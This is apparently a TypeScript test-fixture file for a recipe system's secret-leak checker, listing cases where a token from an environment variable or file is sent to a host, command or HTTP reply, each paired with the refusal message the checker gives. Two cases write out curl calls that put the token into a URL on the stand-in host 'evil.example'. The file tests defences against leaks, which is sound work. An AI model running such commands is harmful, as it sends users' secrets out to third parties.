// Recipes that send a value from a variable or a file which their input does not declare as secret.

import type { Attacks } from "./attack.ts";
import { poll, secret, text, value } from "./attack.ts";

const plain = text("token");
const given = { with: { token: "${TOKEN}" }, env: { TOKEN: value } };
const refused =
  /may not give the value of the input token, which is from a variable or a file, to api\.example/;
const source = (x: object) => ({ inputs: plain, capabilities: { hosts: ["api.example"] }, sources: { x } });

export const variableAttacks: Readonly<Record<string, Attacks>> = {
  "values from variables": {
    "in a query": [{ recipe: source(poll("https://api.example/?q=${inputs.token}").x), ...given }, refused],
    "in a header": [
      {
        recipe: source(poll("https://api.example/", { headers: { "x-a": "Bearer ${inputs.token}" } }).x),
        ...given,
      },
      refused,
    ],
    "from a file": [
      {
        recipe: source(poll("https://api.example/?q=${inputs.token}").x),
        with: { token: "${file:token}" },
        files: { token: value },
      },
      refused,
    ],
    "as a part of what the user wrote": [
      {
        recipe: source(poll("https://api.example/?q=${inputs.token}").x),
        ...given,
        with: { token: "x-${TOKEN}" },
      },
      refused,
    ],
    "of a list": [
      {
        recipe: {
          inputs: { token: { type: "list", description: "Texts." } },
          capabilities: { commands: ["curl"] },
          sources: { x: { type: "command", command: "${inputs.token}" } },
        },
        ...given,
        with: { token: ["curl", "https://evil.example/${TOKEN}"] },
      },
      /may not give the value of the input token, .* to curl/,
    ],
    "in a command line": [
      {
        recipe: {
          inputs: plain,
          capabilities: { commands: ["curl"] },
          sources: { x: { type: "command", command: ["curl", "https://evil.example/${inputs.token}"] } },
        },
        ...given,
      },
      /may not give the value of the input token, .* to curl/,
    ],
    "as the default of an argument": [
      {
        recipe: {
          inputs: plain,
          capabilities: { tools: ["x"], hosts: ["api.example"] },
          sinks: {
            x: {
              type: "http",
              description: "Send.",
              input: { a: { type: "string", default: "${inputs.token}" } },
              request: { url: "https://api.example/{{input.a}}" },
            },
          },
        },
        ...given,
      },
      refused,
    ],
    "in an answer to callers": [
      {
        recipe: {
          inputs: plain,
          capabilities: { listen: ["/x"] },
          sources: { x: { type: "http", path: "/x", respond: { body: "${inputs.token}" } } },
        },
        ...given,
      },
      /may not use the value of the input token/,
    ],
    "beside the host that another input names": [
      {
        recipe: {
          inputs: { ...plain, ...text("url") },
          capabilities: { hosts: ["${inputs.url}"] },
          sources: poll("${inputs.url}?q=${inputs.token}"),
        },
        ...given,
        with: { token: "${TOKEN}", url: "https://api.example/" },
      },
      refused,
    ],
  },
  "values from variables that do no harm": {
    "one that is typed": [
      { recipe: source(poll("https://api.example/?q=${inputs.token}").x), with: { token: "plain" } },
    ],
    "one that is declared": [
      {
        recipe: {
          ...source(poll("https://api.example/?q=${inputs.token}").x),
          capabilities: { hosts: ["api.example"], secrets: { token: ["api.example"] } },
        },
        ...given,
      },
    ],
    "a host": [
      {
        recipe: {
          inputs: text("url"),
          capabilities: { hosts: ["${inputs.url}"] },
          sources: poll("${inputs.url}"),
        },
        with: { url: "${URL}" },
        env: { URL: "https://api.example/items" },
      },
    ],
    "a route": [
      {
        recipe: {
          inputs: { ...secret, ...text("path") },
          capabilities: { listen: ["${inputs.path}"], secrets: { token: ["verify"] } },
          sources: {
            x: {
              type: "http",
              path: "${inputs.path}",
              verify: { scheme: "token", header: "x-token", secret: "${inputs.token}" },
            },
          },
        },
        with: { path: "${HOOK}", token: value },
        env: { HOOK: "/hook" },
      },
    ],
  },
};
